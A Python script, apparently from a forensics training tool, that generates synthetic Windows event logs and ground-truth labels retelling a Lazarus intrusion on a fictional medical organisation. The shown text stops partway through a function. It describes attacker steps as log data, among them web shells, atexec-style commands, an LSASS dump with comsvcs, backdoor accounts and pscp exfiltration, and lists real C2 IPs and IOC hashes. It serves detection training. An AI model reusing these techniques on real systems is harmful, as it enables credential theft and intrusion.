#!/usr/bin/env python3
"""make_demo.py OUTDIR -- write spoor's bundled demo case.

The case retells the Lazarus "No Pineapple!" intrusion (WithSecure, 2023; see
shared/docs/CAMPAIGN.md) on the Windows side of a fictional victim, the
medical research organisation MEDRES.  Every event is written by this script
(evtxwriter.py); no event data is copied from anywhere.  The output is
deterministic: fixed seed, fixed dates, same bytes on every run.

Output (in OUTDIR):
  Security.evtx  Microsoft-Windows-Security-Auditing: 4624 (logons, incl.
                 RDP type 10 from an external IP), 4672, 4688, 4720, 4722,
                 4724, 4732, 4738
  Sysmon.evtx    Microsoft-Windows-Sysmon/Operational: 1 process creation,
                 3 network connection, 11 file created, 13 registry value set
  System.evtx    Service Control Manager 7045/7036/7040, Eventlog 104
                 (log cleared, a <UserData> event)
  OUTDIR.truth.json  ground truth (beside OUTDIR, not in it): for every record its file, record id, host,
                 time, whether it belongs to the intrusion, the ATT&CK
                 technique and a short note

The files are a per-channel collection from three servers (like a log
collector's export), so one file holds several hosts (the Computer field):
  MRS-WEB01  10.20.1.15  Windows server running a Tomcat intranet portal
  MRS-APP02  10.20.1.22  application server, the attackers' main foothold
  MRS-FS01   10.20.1.31  research file server (staging and exfiltration)

Story (dates 2022, Q3; attacker activity on weekdays during office hours in
UTC+9, i.e. about 00:00-09:00 UTC; benign activity follows the victim's
office hours in UTC+5:30).  The report's web shells were on a Linux Zimbra
server; here, as a dramatisation, the JSP web shell lands on a Windows Tomcat
host so that it is visible in Sysmon.
  Mon 05 Sep  base.jsp web shell written on MRS-WEB01; recon through it;
              one connection to it comes from 175.45.176.27 (North Korea)
  Wed 07 Sep  carbon.jsp (file browser) written on MRS-WEB01
  Tue 13 Sep  RDP (type 10) to MRS-APP02 from 23.237.32.34 with a stolen
              account; Impacket-atexec style discovery commands, output
              redirected to C:\\Windows\\Temp\\[a-zA-Z]{8}.tmp; WDigest enabled;
              LSASS dump with comsvcs MiniDump; SAM/SYSTEM hive saves;
              ras.exe (WinRAR) archive with -pwindows
  Wed 14 Sep  account "support" created and put into Administrators and
              Remote Desktop Users (4720/4722/4724/4738/4732)
  Thu 15 Sep  GREASE2 through PrintNightmare: spoolsv.exe spawns net.exe to
              enable Guest (4722/4738/4732), RDP Wrapper install,
              fDenyTSConnections=0 (Sysmon 13), firewall rule for 3389
  Fri 16 Sep  service RegistryCheck (cmd /K start c:\\windows\\temp\\acres.exe)
              (System 7045); acres.exe beacons to 15.207.207.64
  Mon 19 Sep  Cobalt Strike-like msmptray.exe/printfs.exe beacon to
              104.225.129.86 / 104.225.129.103; RDP as "support"
  Wed 21 Sep  lateral movement to MRS-FS01 (type 3 logons, net use, dir)
  Thu 22 Sep  Dtrack (stt.exe) collection: systeminfo/tasklist/netstat to
              %TEMP%\\temp\\*.res, "ping -n 3 127.0.0.1 >NUL & echo EEEE"
  Tue 27 Sep  exfiltration with pscp.exe to 104.225.129.103:22
  Thu 29 Sep  clean-up: del *.tmp, net use /delete, wevtutil epl/cl of the
              TerminalServices logs (System 104 log cleared by "support")

File hashes: the SHA1s of acres.exe and the two Cobalt Strike samples are the
public IOCs from CAMPAIGN.md (which of the two CS samples is printfs.exe and
which msmptray.exe is our choice); every other hash is a synthetic placeholder
(SHA1 of "spoor-demo:" + file name), not the hash of any real file.
"""

import datetime as dt
import hashlib
import json
import os
import random
import sys
import uuid

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "scripts"))

from evtxwriter import Element, EvtxWriter, Sub, Template, TemplateInstance, VT  # noqa: E402

UTC = dt.timezone.utc
KST = dt.timezone(dt.timedelta(hours=9))
IST = dt.timezone(dt.timedelta(hours=5, minutes=30))
SEED = 20220822

# --- providers ---------------------------------------------------------------
SEC = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}")
SYSMON = ("Microsoft-Windows-Sysmon", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}")
SCM = ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}")
EVENTLOG = ("Microsoft-Windows-Eventlog", "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}")
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"

# --- the victim -----------------------------------------------------------------
DOMAIN = "MEDRES"
DOMAIN_SID = "S-1-5-21-3816542070-1958727611-2409861044"
SYSTEM_SID = "S-1-5-18"
LOCAL_SERVICE_SID = "S-1-5-19"


class Host:
    def __init__(self, short, ip, machine_sid, lsass_pid, sysmon_pid, pid_base):
        self.short = short
        self.fqdn = short + ".medres.local"
        self.ip = ip
        self.machine_sid = machine_sid      # local accounts: machine_sid-RID
        self.lsass_pid = lsass_pid
        self.sysmon_pid = sysmon_pid
        self.next_pid = pid_base


WEB01 = Host("MRS-WEB01", "10.20.1.15", "S-1-5-21-1722098417-2930567710-1190318543", 704, 2312, 5200)
APP02 = Host("MRS-APP02", "10.20.1.22", "S-1-5-21-2875118023-1840192743-3306725583", 680, 2468, 6100)
FS01 = Host("MRS-FS01", "10.20.1.31", "S-1-5-21-4093511288-3471952260-2216413607", 652, 2204, 4300)
HOSTS = (WEB01, APP02, FS01)

# domain users: name -> RID
USERS = {"a.verma": 1107, "r.iyer": 1112, "p.nair": 1118, "s.gupta": 1125,
         "k.rao": 1131, "adm.kumar": 1140, "svc_backup": 1152, "j.sharma": 1163}
WORKSTATIONS = {"a.verma": ("MRS-WS014", "10.20.4.14"), "r.iyer": ("MRS-WS022", "10.20.4.22"),
                "p.nair": ("MRS-WS031", "10.20.4.31"), "s.gupta": ("MRS-WS045", "10.20.4.45"),
                "k.rao": ("MRS-WS052", "10.20.4.52"), "adm.kumar": ("MRS-JUMP01", "10.20.0.5"),
                "j.sharma": ("MRS-WS061", "10.20.4.61")}

# --- attacker infrastructure (public IOCs, CAMPAIGN.md) --------------------------
KP_IP = "175.45.176.27"
RELAY_IP = "209.95.60.92"
VPN_IP = "23.237.32.34"
CS_C2_A = "104.225.129.86"
CS_C2_B = "104.225.129.103"
ACRES_C2 = "15.207.207.64"

IOC_SHA1 = {
    "acres.exe": "46A934E7B42BFB0A2A9BCECADE78F63375192924",
    "printfs.exe": "CBF1529BF025523532666B0B3D2ADBDAE657DB16",
    "msmptray.exe": "AA489231455DC2E56E2399EDD7C10B5522608A7D",
}

TOMCAT = "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0"
WEBROOT = TOMCAT + "\\webapps\\ROOT"

# version metadata for Sysmon event 1 (FileVersion, Description, Product, Company, OriginalFileName)
MS = "Microsoft Corporation"
WINPROD = "Microsoft\u00ae Windows\u00ae Operating System"
META = {
    "cmd.exe": ("10.0.17763.1697 (WinBuild.160101.0800)", "Windows Command Processor", WINPROD, MS, "Cmd.Exe"),
    "net.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Net Command", WINPROD, MS, "net.exe"),
    "net1.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Net Command", WINPROD, MS, "net1.exe"),
    "whoami.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "whoami - displays logged on user information", WINPROD, MS, "whoami.exe"),
    "ipconfig.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "IP Configuration Utility", WINPROD, MS, "ipconfig.exe"),
    "systeminfo.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Displays system information", WINPROD, MS, "sysinfo.exe"),
    "tasklist.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Lists the current running tasks", WINPROD, MS, "tasklist.exe"),
    "netstat.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "TCP/IP Netstat Command", WINPROD, MS, "netstat.exe"),
    "nslookup.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "nslookup", WINPROD, MS, "nslookup.exe"),
    "tracert.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Trace Route Command", WINPROD, MS, "tracert.exe"),
    "PING.EXE": ("10.0.17763.1 (WinBuild.160101.0800)", "TCP/IP Ping Command", WINPROD, MS, "ping.exe"),
    "query.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Query Utility", WINPROD, MS, "query.exe"),
    "quser.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Query User Utility", WINPROD, MS, "quser.exe"),
    "reg.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Registry Console Tool", WINPROD, MS, "reg.exe"),
    "rundll32.exe": ("10.0.17763.1697 (WinBuild.160101.0800)", "Windows host process (Rundll32)", WINPROD, MS, "RUNDLL32.EXE"),
    "sc.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Service Control Manager Configuration Tool", WINPROD, MS, "sc.exe"),
    "netsh.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Network Command Shell", WINPROD, MS, "netsh.exe"),
    "wevtutil.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Eventing Command Line Utility", WINPROD, MS, "wevtutil.exe"),
    "taskkill.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Terminates Processes", WINPROD, MS, "taskkill.exe"),
    "powershell.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Windows PowerShell", WINPROD, MS, "PowerShell.EXE"),
    "robocopy.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Microsoft Robocopy", WINPROD, MS, "robocopy.exe"),
    "MpCmdRun.exe": ("4.18.2207.7 (WinBuild.160101.0800)", "Microsoft Malware Protection Command Line Utility", WINPROD, MS, "MpCmdRun.exe"),
    "taskhostw.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Host Process for Windows Tasks", WINPROD, MS, "taskhostw.exe"),
    "chrome.exe": ("105.0.5195.102", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "OUTLOOK.EXE": ("16.0.15601.20148", "Microsoft Outlook", "Microsoft Outlook", MS, "Outlook.exe"),
    "java.exe": ("8.0.3410.10", "Java(TM) Platform SE binary", "Java(TM) Platform SE 8", "Oracle Corporation", "java.exe"),
    "sqlservr.exe": ("2019.150.4236.7 ((SQLServer).220712-0101)", "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", MS, "sqlservr.exe"),
    "wuauclt.exe": ("10.0.17763.3287 (WinBuild.160101.0800)", "Windows Update", WINPROD, MS, "wuauclt.exe"),
    "mmc.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Microsoft Management Console", WINPROD, MS, "mmc.exe"),
    "notepad.exe": ("10.0.17763.1 (WinBuild.160101.0800)", "Notepad", WINPROD, MS, "NOTEPAD.EXE"),
    "RDPWInst.exe": ("1.6.2.0", "RDP Wrapper Library Installer", "RDP Wrapper Library", "Stas'M Corp.", "RDPWInst.exe"),
    "pscp.exe": ("Release 0.77 (with embedded help)", "Command-line SCP/SFTP client", "PuTTY suite", "Simon Tatham", "PSCP"),
    "ras.exe": ("6.11.0", "Command line RAR", "WinRAR", "Alexander Roshal", "Rar.exe"),
}


def sha1_of(name):
    """Public IOC SHA1 where CAMPAIGN.md has one, else a synthetic placeholder."""
    base = name.rsplit("\\", 1)[-1]
    if base in IOC_SHA1:
        return IOC_SHA1[base]
    return hashlib.sha1(("spoor-demo:" + base.lower()).encode()).hexdigest().upper()


class Proc:
    """A process as Sysmon/4688 sees it."""

    def __init__(self, host, guid, pid, image, cmdline, user, logon_id, integrity, session):
        self.host, self.guid, self.pid = host, guid, pid
        self.image, self.cmdline, self.user = image, cmdline, user
        self.logon_id, self.integrity, self.session = logon_id, integrity, session


class Demo:
    def __init__(self):
        self.rng = random.Random(SEED)
        self.events = []            # (time, seq, log, kwargs, truth)
        self.seq = 0
        self.roots = {}             # (host, name) -> Proc

    # -- helpers ------------------------------------------------------------
    def add(self, log, when, truth, **kw):
        self.seq += 1
        self.events.append((when, self.seq, log, kw, truth))

    def tmpname(self):
        """atexec-style output file: 8 random letters."""
        letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
        return "C:\\Windows\\Temp\\%s.tmp" % "".join(self.rng.choice(letters) for _ in range(8))

    def guid(self, host, when):
        """Sysmon-like process GUID: host tag, time-derived middle, counter."""
        tag = int(hashlib.md5(host.short.encode()).hexdigest()[:8], 16)
        secs = int(when.timestamp())
        return uuid.UUID("%08x-%04x-%04x-%04x-%012x" % (
            tag, (secs >> 16) & 0xFFFF, secs & 0xFFFF, self.rng.randrange(0x10000),
            self.rng.randrange(1 << 40)))

    def pid(self, host):
        host.next_pid += self.rng.choice((4, 8, 12, 16, 20, 28, 36))
        return host.next_pid

    def root(self, host, name, image, cmdline, user, integrity="System", session=0,
             logon_id=0x3E7, pid=None):
        """Long-running processes that started before the logs begin."""
        key = (host.short, name)
        if key not in self.roots:
            when = dt.datetime(2022, 8, 1, tzinfo=UTC)
            self.roots[key] = Proc(host, self.guid(host, when), pid or self.pid(host), image,
                                   cmdline, user, logon_id, integrity, session)
        return self.roots[key]

    def services(self, host):
        return self.root(host, "services", "C:\\Windows\\System32\\services.exe",
                         "C:\\Windows\\system32\\services.exe", "NT AUTHORITY\\SYSTEM")

    def scheduler(self, host):
        return self.root(host, "schedule", "C:\\Windows\\System32\\svchost.exe",
                         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                         "NT AUTHORITY\\SYSTEM")

    def spooler(self, host):
        return self.root(host, "spoolsv", "C:\\Windows\\System32\\spoolsv.exe",
                         "C:\\Windows\\System32\\spoolsv.exe", "NT AUTHORITY\\SYSTEM")

    def tomcat(self, host):
        return self.root(host, "tomcat", TOMCAT + "\\bin\\tomcat9.exe",
                         '"%s\\bin\\tomcat9.exe" //RS//Tomcat9' % TOMCAT,
                         "NT AUTHORITY\\LOCAL SERVICE")

    def explorer(self, host, user, logon_id, session, when):
        key = (host.short, "explorer:" + user)
        if key not in self.roots:
            self.roots[key] = Proc(host, self.guid(host, when), self.pid(host),
                                   "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
                                   user, logon_id, "High", session)
        return self.roots[key]

    # -- Sysmon -----------------------------------------------------------------
    def sysmon(self, host, when, event_id, task, fields, truth, version=2):
        self.add("Sysmon", when, truth, provider_name=SYSMON[0], provider_guid=SYSMON[1],
                 event_id=event_id, version=version, level=4, task=task, opcode=0,
                 keywords=0x8000000000000000, time=when, process_id=host.sysmon_pid,
                 thread_id=host.sysmon_pid + 852, channel=SYSMON_CHANNEL,
                 computer=host.fqdn, user_sid=SYSTEM_SID, event_data=fields)

    @staticmethod
    def utc(when):
        return when.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (when.microsecond // 1000)

    def proc(self, host, when, image, cmdline, parent, truth, user=None, integrity=None,
             cwd=None, audit=False):
        """Sysmon 1 (and optionally Security 4688) for a new process."""
        user = user or parent.user
        integrity = integrity or parent.integrity
        name = image.rsplit("\\", 1)[-1]
        meta = META.get(name, ("-", "-", "-", "-", "-"))
        p = Proc(host, self.guid(host, when), self.pid(host), image, cmdline, user,
                 parent.logon_id, integrity, parent.session)
        fields = [
            ("RuleName", "-"), ("UtcTime", self.utc(when)),
            ("ProcessGuid", ("GUID", p.guid)), ("ProcessId", ("UInt32", p.pid)),
            ("Image", image), ("FileVersion", meta[0]), ("Description", meta[1]),
            ("Product", meta[2]), ("Company", meta[3]), ("OriginalFileName", meta[4]),
            ("CommandLine", cmdline), ("CurrentDirectory", cwd or "C:\\Windows\\system32\\"),
            ("User", user), ("LogonGuid", ("GUID", self.logon_guid(host, p.logon_id))),
            ("LogonId", ("HexInt64", p.logon_id)), ("TerminalSessionId", ("UInt32", p.session)),
            ("IntegrityLevel", integrity), ("Hashes", "SHA1=" + sha1_of(image)),
            ("ParentProcessGuid", ("GUID", parent.guid)),
            ("ParentProcessId", ("UInt32", parent.pid)), ("ParentImage", parent.image),
            ("ParentCommandLine", parent.cmdline), ("ParentUser", parent.user),
        ]
        self.sysmon(host, when, 1, 1, fields, truth, version=5)
        if audit:
            self.sec_4688(host, when, p, parent, truth)
        return p

    @staticmethod
    def logon_guid(host, logon_id):
        return uuid.UUID(bytes=hashlib.md5(("%s:%x" % (host.short, logon_id)).encode()).digest())

    def net(self, host, when, proc, proto, initiated, src, sport, dst, dport, truth,
            dst_name="", src_name=""):
        """Sysmon 3.  For accepted connections (initiated=False) the remote
        peer is the source."""
        fields = [
            ("RuleName", "-"), ("UtcTime", self.utc(when)),
            ("ProcessGuid", ("GUID", proc.guid)), ("ProcessId", ("UInt32", proc.pid)),
            ("Image", proc.image), ("User", proc.user), ("Protocol", proto),
            ("Initiated", ("Bool", initiated)), ("SourceIsIpv6", ("Bool", False)),
            ("SourceIp", src), ("SourceHostname", src_name or "-"),
            ("SourcePort", ("UInt16", sport)), ("SourcePortName", "-"),
            ("DestinationIsIpv6", ("Bool", False)), ("DestinationIp", dst),
            ("DestinationHostname", dst_name or "-"), ("DestinationPort", ("UInt16", dport)),
            ("DestinationPortName", {443: "https", 80: "http", 22: "ssh", 445: "microsoft-ds",
                                     3389: "ms-wbt-server", 53: "domain"}.get(dport, "-")),
        ]
        self.sysmon(host, when, 3, 3, fields, truth, version=5)

    def file_created(self, host, when, proc, path, truth):
        fields = [("RuleName", "-"), ("UtcTime", self.utc(when)),
                  ("ProcessGuid", ("GUID", proc.guid)), ("ProcessId", ("UInt32", proc.pid)),
                  ("Image", proc.image), ("TargetFilename", path),
                  ("CreationUtcTime", self.utc(when)), ("User", proc.user)]
        self.sysmon(host, when, 11, 11, fields, truth, version=2)

    def reg_set(self, host, when, proc, key, details, truth):
        fields = [("RuleName", "-"), ("EventType", "SetValue"), ("UtcTime", self.utc(when)),
                  ("ProcessGuid", ("GUID", proc.guid)), ("ProcessId", ("UInt32", proc.pid)),
                  ("Image", proc.image), ("TargetObject", key), ("Details", details),
                  ("User", proc.user)]
        self.sysmon(host, when, 13, 13, fields, truth, version=2)

    # -- Security ---------------------------------------------------------------
    def security(self, host, when, event_id, task, fields, truth, version=0,
                 keywords=0x8020000000000000):
        self.add("Security", when, truth, provider_name=SEC[0], provider_guid=SEC[1],
                 event_id=event_id, version=version, level=0, task=task, opcode=0,
                 keywords=keywords, time=when, process_id=host.lsass_pid,
                 thread_id=host.lsass_pid + self.rng.choice((8, 12, 44, 96, 120)),
                 channel="Security", computer=host.fqdn, event_data=fields)

    @staticmethod
    def user_sid(user, host=None):
        if user in USERS:
            return "%s-%d" % (DOMAIN_SID, USERS[user])
        return {"support": host.machine_sid + "-1003", "Guest": host.machine_sid + "-501",
                "Administrator": host.machine_sid + "-500"}[user]

    def logon(self, host, when, user, logon_type, ip, port, truth, workstation="-",
              logon_id=None, domain=DOMAIN, auth="Negotiate", elevated=True):
        """4624 (plus 4672 for administrators).  Returns the logon id."""
        logon_id = logon_id or self.rng.randrange(0x100000, 0x9FFFFFF)
        interactive = logon_type in (2, 10, 11)
        fields = [
            ("SubjectUserSid", ("SID", SYSTEM_SID if interactive else "S-1-0-0")),
            ("SubjectUserName", host.short + "$" if interactive else "-"),
            ("SubjectDomainName", DOMAIN if interactive else "-"),
            ("SubjectLogonId", ("HexInt64", 0x3E7 if interactive else 0)),
            ("TargetUserSid", ("SID", self.user_sid(user, host))),
            ("TargetUserName", user), ("TargetDomainName", domain),
            ("TargetLogonId", ("HexInt64", logon_id)),
            ("LogonType", ("UInt32", logon_type)),
            ("LogonProcessName", "User32 " if interactive else "NtLmSsp "),
            ("AuthenticationPackageName", auth),
            ("WorkstationName", workstation),
            ("LogonGuid", ("GUID", self.logon_guid(host, logon_id) if auth == "Kerberos"
                           else uuid.UUID(int=0))),
            ("TransmittedServices", "-"),
            ("LmPackageName", "NTLM V2" if auth == "NTLM" else "-"),
            ("KeyLength", ("UInt32", 128 if auth == "NTLM" else 0)),
            ("ProcessId", ("HexInt64", 0x1F4 + self.rng.randrange(0, 0x300) if interactive else 0)),
            ("ProcessName", "C:\\Windows\\System32\\svchost.exe" if interactive else "-"),
            ("IpAddress", ip), ("IpPort", "-" if ip == "-" else str(port)),
            ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "%%1843" if logon_type == 10 else "-"),
            ("TargetOutboundUserName", "-"), ("TargetOutboundDomainName", "-"),
            ("VirtualAccount", "%%1843"), ("TargetLinkedLogonId", ("HexInt64", 0)),
            ("ElevatedToken", "%%1842" if elevated else "%%1843"),
        ]
        self.security(host, when, 4624, 12544, fields, truth, version=2)
        if elevated and user in ("adm.kumar", "support", "Administrator", "Guest", "j.sharma"):
            self.security(host, when + dt.timedelta(microseconds=1200), 4672, 12548, [
                ("SubjectUserSid", ("SID", self.user_sid(user, host))),
                ("SubjectUserName", user), ("SubjectDomainName", domain),
                ("SubjectLogonId", ("HexInt64", logon_id)),
                ("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                                  "SeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\t"
                                  "SeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\t"
                                  "SeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\t"
                                  "SeDelegateSessionUserImpersonatePrivilege")], truth)
        return logon_id

    def sec_4688(self, host, when, p, parent, truth):
        """Security 4688 mirroring a process creation."""
        subj_sid = SYSTEM_SID if p.user == "NT AUTHORITY\\SYSTEM" else (
            LOCAL_SERVICE_SID if p.user.endswith("LOCAL SERVICE") else
            self.user_sid(p.user.split("\\")[-1], host))
        subj_name = p.user.split("\\")[-1] if subj_sid not in (SYSTEM_SID,) else host.short + "$"
        subj_dom = p.user.split("\\")[0] if subj_sid != SYSTEM_SID else DOMAIN
        fields = [
            ("SubjectUserSid", ("SID", subj_sid)), ("SubjectUserName", subj_name),
            ("SubjectDomainName", subj_dom), ("SubjectLogonId", ("HexInt64", p.logon_id)),
            ("NewProcessId", ("HexInt64", p.pid)), ("NewProcessName", p.image),
            ("TokenElevationType", "%%1936" if p.integrity == "System" else "%%1937"),
            ("ProcessId", ("HexInt64", parent.pid)), ("CommandLine", p.cmdline),
            ("TargetUserSid", ("SID", "S-1-0-0")), ("TargetUserName", "-"),
            ("TargetDomainName", "-"), ("TargetLogonId", ("HexInt64", 0)),
            ("ParentProcessName", parent.image),
            ("MandatoryLabel", ("SID", {"System": "S-1-16-16384", "High": "S-1-16-12288",
                                        "Medium": "S-1-16-8192"}.get(p.integrity, "S-1-16-8192"))),
        ]
        self.security(host, when + dt.timedelta(microseconds=300), 4688, 13312, fields, truth,
                      version=2)

    def subject(self, host, actor, logon_id):
        if actor == "SYSTEM":
            return [("SubjectUserSid", ("SID", SYSTEM_SID)), ("SubjectUserName", host.short + "$"),
                    ("SubjectDomainName", DOMAIN), ("SubjectLogonId", ("HexInt64", 0x3E7))]
        return [("SubjectUserSid", ("SID", self.user_sid(actor, host))),
                ("SubjectUserName", actor), ("SubjectDomainName", DOMAIN),
                ("SubjectLogonId", ("HexInt64", logon_id))]

    def account_fields(self, user, uac_old, uac_new, uac_text):
        return [("SamAccountName", user), ("DisplayName", "%%1793"),
                ("UserPrincipalName", "-"), ("HomeDirectory", "%%1793"),
                ("HomePath", "%%1793"), ("ScriptPath", "%%1793"), ("ProfilePath", "%%1793"),
                ("UserWorkstations", "%%1793"), ("PasswordLastSet", "%%1794"),
                ("AccountExpires", "%%1794"), ("PrimaryGroupId", "513"),
                ("AllowedToDelegateTo", "-"), ("OldUacValue", uac_old),
                ("NewUacValue", uac_new), ("UserAccountControl", uac_text),
                ("UserParameters", "%%1793"), ("SidHistory", "-"), ("LogonHours", "%%1797")]

    def user_created(self, host, when, user, actor, logon_id, truth):
        sid = self.user_sid(user, host)
        target = [("TargetUserName", user), ("TargetDomainName", host.short),
                  ("TargetSid", ("SID", sid))]
        self.security(host, when, 4720, 13824, target + self.subject(host, actor, logon_id) +
                      [("PrivilegeList", "-")] +
                      self.account_fields(user, "0x0", "0x15",
                                          "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084"), truth)
        step = dt.timedelta(milliseconds=15)
        self.security(host, when + step, 4722, 13824, target + self.subject(host, actor, logon_id),
                      truth)
        self.security(host, when + 2 * step, 4724, 13824,
                      target + self.subject(host, actor, logon_id), truth)
        self.user_changed(host, when + 3 * step, user, actor, logon_id, "0x15", "0x10",
                          "\r\n\t\t%%2048\r\n\t\t%%2050", truth)

    def user_changed(self, host, when, user, actor, logon_id, old, new, text, truth):
        sid = self.user_sid(user, host)
        fields = ([("Dummy", "-"), ("TargetUserName", user), ("TargetDomainName", host.short),
                   ("TargetSid", ("SID", sid))] + self.subject(host, actor, logon_id) +
                  [("PrivilegeList", "-")] + self.account_fields(user, old, new, text))
        self.security(host, when, 4738, 13824, fields, truth)

    def group_add(self, host, when, user, group, group_sid, actor, logon_id, truth):
        fields = ([("MemberName", "-"), ("MemberSid", ("SID", self.user_sid(user, host))),
                   ("TargetUserName", group), ("TargetDomainName", "Builtin"),
                   ("TargetSid", ("SID", group_sid))] + self.subject(host, actor, logon_id) +
                  [("PrivilegeList", "-")])
        self.security(host, when, 4732, 13826, fields, truth)

    # -- System -----------------------------------------------------------------
    def scm(self, host, when, event_id, fields, truth, qualifiers=16384,
            keywords=0x8080000000000000):
        self.add("System", when, truth, provider_name=SCM[0], provider_guid=SCM[1],
                 event_source_name=SCM[0], event_id=event_id, qualifiers=qualifiers,
                 version=0, level=4, task=0, opcode=0, keywords=keywords, time=when,
                 process_id=self.services(host).pid, thread_id=self.services(host).pid + 92,
                 channel="System", computer=host.fqdn,
                 user_sid=SYSTEM_SID if event_id == 7045 else None, event_data=fields)

    def service_state(self, host, when, name, state, truth):
        blob = (name.replace(" ", "") + "/" + ("4" if state == "running" else "1")).encode("utf-16-le")
        self.scm(host, when, 7036, [("param1", name), ("param2", state), ("Binary", blob)],
                 truth, keywords=0x8080000000000000)

    def log_cleared(self, host, when, user, logon_id, channel, truth):
        tpl = Template(Element("LogFileCleared", attrs=[
            ("xmlns", "http://manifests.microsoft.com/win/2004/08/windows/eventlog")], children=[
            Element("SubjectUserName", children=[Sub(0, VT.STRING)]),
            Element("SubjectDomainName", children=[Sub(1, VT.STRING)]),
            Element("Channel", children=[Sub(2, VT.STRING)]),
            Element("BackupPath", children=[Sub(3, VT.STRING)])]), key="Eventlog-104")
        self.add("System", when, truth, provider_name=EVENTLOG[0], provider_guid=EVENTLOG[1],
                 event_id=104, version=0, level=4, task=104, opcode=0,
                 keywords=0x8000000000000000, time=when, process_id=1332, thread_id=7104,
                 channel="System", computer=host.fqdn,
                 user_sid=self.user_sid(user, host),
                 user_data=TemplateInstance(tpl, [user, host.short, channel, ""]))


# ----------------------------------------------------------------------------------
# The story
# ----------------------------------------------------------------------------------

def kst(day, hh, mm, ss=0, ms=0):
    """A September 2022 (or given date) time in UTC+9, returned in UTC."""
    d = day if isinstance(day, dt.date) else dt.date(2022, 9, day)
    return dt.datetime(d.year, d.month, d.day, hh, mm, ss, ms * 1000, tzinfo=KST).astimezone(UTC)


def mal(technique, note):
    return {"malicious": True, "technique": technique, "note": note}


def benign(note):
    return {"malicious": False, "technique": None, "note": note}


def atexec(d, host, when, command, technique, note, audit=False):
    """Impacket atexec: the Task Scheduler runs cmd.exe /C <command> > tmp 2>&1."""
    line = "cmd.exe /C %s > %s 2>&1" % (command, d.tmpname())
    return d.proc(host, when, "C:\\Windows\\System32\\cmd.exe", line, d.scheduler(host),
                  mal(technique, note), user="NT AUTHORITY\\SYSTEM", integrity="System",
                  audit=audit)


def story_webshell(d):
    """05-07 Sep: JSP web shells on MRS-WEB01 and recon through them."""
    h = WEB01
    tc = d.tomcat(h)
    t = kst(5, 9, 12, 41, 210)
    d.net(h, t - dt.timedelta(seconds=3), tc, "tcp", False, RELAY_IP, 50412, h.ip, 8443,
          mal("T1190", "exploit request from relay 209.95.60.92 to the portal"))
    d.file_created(h, t, tc, WEBROOT + "\\base.jsp",
                   mal("T1505.003", "JspSpy web shell base.jsp written"))
    java = tc
    cmds = [(kst(5, 9, 15, 3), "whoami", "T1033"), (kst(5, 9, 15, 40), "ipconfig /all", "T1016"),
            (kst(5, 9, 17, 12), "net user", "T1087.001"), (kst(5, 9, 19, 55), "net share", "T1135")]
    for i, (when, c, tech) in enumerate(cmds):
        if i % 2 == 0:
            d.net(h, when - dt.timedelta(seconds=1), tc, "tcp", False, RELAY_IP,
                  50413 + d.rng.randrange(400), h.ip, 8443,
                  mal("T1071.001", "web shell request"))
        p = d.proc(h, when, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c " + c, java,
                   mal(tech, "command through base.jsp: " + c), cwd=TOMCAT + "\\bin\\",
                   integrity="System")
        if c == "whoami":
            d.proc(h, when + dt.timedelta(milliseconds=40), "C:\\Windows\\System32\\whoami.exe",
                   c, p, mal(tech, "child of web shell cmd.exe"), cwd=TOMCAT + "\\bin\\")
    # the single connection from North Korean address space, start of a workday
    d.net(h, kst(6, 9, 2, 17, 455), tc, "tcp", False, KP_IP, 61022, h.ip, 8443,
          mal("T1505.003", "web shell accessed directly from 175.45.176.27 (KP) - OPSEC slip"))
    d.net(h, kst(7, 10, 41, 5), tc, "tcp", False, VPN_IP, 52110, h.ip, 8443,
          mal("T1071.001", "web shell request via 23.237.32.34"))
    d.file_created(h, kst(7, 10, 41, 9, 870), tc, WEBROOT + "\\carbon.jsp",
                   mal("T1505.003", "JspFileBrowser carbon.jsp written"))


def story_foothold(d):
    """13 Sep: RDP to MRS-APP02, discovery and credential access."""
    h = APP02
    svc = d.root(h, "termsvc", "C:\\Windows\\System32\\svchost.exe",
                 "C:\\Windows\\System32\\svchost.exe -k NetworkService -s TermService",
                 "NT AUTHORITY\\NETWORK SERVICE")
    t = kst(13, 10, 4, 22)
